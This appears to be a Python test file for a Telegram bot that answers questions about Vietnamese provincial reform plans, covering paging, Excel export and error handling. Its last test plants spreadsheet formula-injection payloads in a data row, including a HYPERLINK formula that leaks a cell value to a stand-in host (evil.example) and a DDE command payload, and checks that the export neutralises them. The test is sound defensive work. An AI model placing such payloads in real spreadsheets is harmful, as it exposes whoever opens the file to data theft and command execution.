"""Long answers in one Telegram message, paged with ◀ ▶; every cited row reachable; an .xlsx of
the rows; 429s waited out, not lost; a failed button answer never stops the action."""

from __future__ import annotations

import io
import re
import textwrap
from pathlib import Path

import openpyxl

from bots.telegram import texts
from service.export import COLUMNS

ARTIFACTS = Path(__file__).resolve().parents[3] / "test-artifacts"
LONG = "Sở Nội vụ tỉnh Hưng Yên và tỉnh Hà Tĩnh chủ trì những gì?"


def data_of(message: dict) -> list[str]:
    return [b.get("callback_data", "") for row in message.get("reply_markup", {}).get("inline_keyboard", []) for b in row]


def forward_of(message: dict) -> str | None:
    """The ▶ button's data, or None on the last page (where it is hidden)."""
    buttons = [b for row in message.get("reply_markup", {}).get("inline_keyboard", []) for b in row]
    return next((b["callback_data"] for b in buttons if b["text"] == "▶"), None)


async def _browse(tg, user, message: dict) -> list[tuple[str, list[str]]]:
    """Every page of a paged answer, pressing ▶ until the last: (text, row ids with a button)."""
    pages = [(message["text"], [d[4:] for d in data_of(message) if d.startswith("row:")])]
    while True:
        forward = forward_of(message)
        if forward is None:
            return pages
        await tg.api.press(user, message, forward)
        await tg.api.wait_for(lambda: message["text"] != pages[-1][0], what="the next page")
        pages.append((message["text"], [d[4:] for d in data_of(message) if d.startswith("row:")]))


async def test_an_89_row_listing_is_one_message_with_pages(tg, assistant) -> None:
    official = tg.user("Hạnh")
    expected = assistant.ask(LONG, today=tg.TODAY)
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id])):
        [message] = await tg.ask(official, LONG)
        pages = await _browse(tg, official, message)

    assert len(expected.citations) == 89
    # Filled by length: 89 rows in at most 8 pages of at most 12 (they were 15+ pages of 6, a new one per group).
    assert len(tg.api.bot_messages(official.id)) == 1 and len(pages) <= 9
    numbers = [int(n) for text, _ in pages for n in re.findall(r"^(\d+)\. ", text.split("\n\nNguồn")[0], re.M)]
    assert numbers == list(range(1, 90))  # one count across groups and pages, as the Excel STT
    assert all(len(text) <= 4096 for text, _ in pages)
    reachable = [rid for _, ids in pages for rid in ids]
    assert reachable == [c.id for c in expected.citations]  # every row, once, in order, one tap away
    headings = {g.title for g in expected.blocks if g.type == "group"}
    for text, _ in pages:  # each page says which plan and which group it continues
        lines = text.split("\n")
        assert re.match(r"Sở Nội vụ(, .*)? — KH CCHC 2022 (Hưng Yên|Hà Tĩnh): \d+ nhiệm vụ\.", lines[0] if not lines[0].startswith("Câu") else lines[2])
        assert any(line.rsplit(" (", 1)[0] in headings for line in lines[:4])
        assert "Nguồn (bấm mã để xem nguyên văn):" in text and "/row_" in text
    ARTIFACTS.mkdir(exist_ok=True)
    transcript = "\n\n".join(f"=== trang {n} ===\n{text}" for n, (text, _) in enumerate(pages, start=1))
    (ARTIFACTS / "telegram-89-row-listing.txt").write_text(f"Câu hỏi: {LONG}\n\n{transcript}\n", encoding="utf-8")
    assert not tg.api.failures()


async def test_excel_button_sends_the_cited_rows(tg, assistant) -> None:
    official = tg.user("Tâm")
    question = "Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý này?"
    expected = assistant.ask(question, today=tg.TODAY)
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id])):
        [message] = await tg.ask(official, question)
        await tg.api.press(official, message, next(d for d in data_of(message) if d.startswith("xl:")))
        await tg.api.wait_for(lambda: tg.api.documents, what="the .xlsx")

    name, content = tg.api.documents[0]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    items = [(b.title, i) for b in expected.blocks if b.type == "group" for i in b.items]
    assert name == "nhiem-vu-so-noi-vu-ha-tinh-quy-iv-2022.xlsx"
    assert rows[0][0] == "Nhiệm vụ của Sở Nội vụ — Hà Tĩnh, quý IV/2022 (hỏi ngày 01/11/2022)"
    assert rows[1][0] == f"Câu hỏi: {question}" and rows[2] == COLUMNS and sheet.auto_filter.ref
    assert [r[:3] for r in rows[3:]] == [(n, title, i.task) for n, (title, i) in enumerate(items, start=1)]
    [sent] = tg.api.called("sendDocument")
    assert sent.result["document"]["file_unique_id"] and not tg.apologies()


async def test_a_429_is_waited_out_and_the_answer_arrives(tg) -> None:
    official = tg.user("Kiên")
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id])):
        tg.api.fail_next("sendMessage", 429, "Too Many Requests: retry after 1", {"retry_after": 1})
        [message] = await tg.ask(official, "Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý này?")

    assert message["text"].startswith("Sở Nội vụ, quý IV/2022")
    assert [c.ok for c in tg.api.calls if c.method == "sendMessage"][-2:] == [False, True]


async def test_a_failed_button_answer_does_not_stop_the_page_turn(tg) -> None:
    official = tg.user("Lộc")
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id])):
        [message] = await tg.ask(official, LONG)
        first = message["text"]
        tg.api.fail_next("answerCallbackQuery", 400, "Bad Request: query is too old and response timeout expired")
        await tg.api.press(official, message, forward_of(message))
        await tg.api.wait_for(lambda: message["text"] != first, what="the next page despite the failed answer")


async def test_an_unknown_button_is_answered(tg) -> None:
    official = tg.user("Minh")
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id])):
        [message] = await tg.ask(official, "Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý này?")
        # A keyboard from an older version of the bot still carries this data.
        message["reply_markup"]["inline_keyboard"].append([{"text": "Cũ", "callback_data": "zz:cu"}])
        query = await tg.api.press(official, message, "zz:cu")
        await tg.api.wait_for(lambda: query not in tg.api.open_queries, what="the unknown button answered")

    answers = {c.params["callback_query_id"]: c.params.get("text") for c in tg.api.called("answerCallbackQuery")}
    assert answers[query] == texts.UNKNOWN_BUTTON


def _planted_corpus(root: Path) -> Path:
    """A plan whose row reads like spreadsheet formulas (what a planted plan would carry)."""
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "manifest.toml").write_text(textwrap.dedent("""
        [[plan]]
        id = "congthuc2022"
        file = "cong-thuc.txt"
        province = "Hà Tĩnh"
        year = 2022
        title = "Kế hoạch thử công thức"
        short_title = "KH thử công thức"
        layout = "tsv"
        columns = ["section", "task", "activity", "lead", "coordinating", "period", "budget"]
    """), encoding="utf-8")
    heading = "\t".join(["Nhiệm vụ", "Nhiệm vụ cụ thể", "Sản phẩm", "Cơ quan chủ trì", "Cơ quan phối hợp",
                         "Thời gian thực hiện", "Kinh phí dự kiến"])
    row = "\t".join(["I. Cải cách thể chế", '=HYPERLINK("http://evil.example/?leak="&C3,"Xem")',
                     "+cmd|' /C calc'!A0", "Sở Nội vụ", "@SUM(1+1)", "Quý IV/2022", "-2+3"])
    (corpus / "cong-thuc.txt").write_text(f"**Phụ lục**\n\n{heading}\n{row}\n", encoding="utf-8")
    return corpus


async def test_the_telegram_excel_file_holds_no_formula(tg, tmp_path) -> None:
    from service.wiring import build, build_assistant, open_index

    settings = tg.base.model_copy(update={"corpus_dir": _planted_corpus(tmp_path), "data_dir": tmp_path / "index"})
    assert not build(settings).failed
    planted = build_assistant(settings, open_index(settings))
    official = tg.user("Vinh")
    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id]), assistant=planted):
        [message] = await tg.ask(official, "=1+1 Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý IV/2022?")
        await tg.api.press(official, message, next(d for d in data_of(message) if d.startswith("xl:")))
        await tg.api.wait_for(lambda: tg.api.documents, what="the .xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(tg.api.documents[0][1])).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    row = [c.value for c in sheet[4]]
    assert row[0] == 1 and "'=HYPERLINK(" in " ".join(str(v) for v in row) and "'@SUM(1+1)" in row
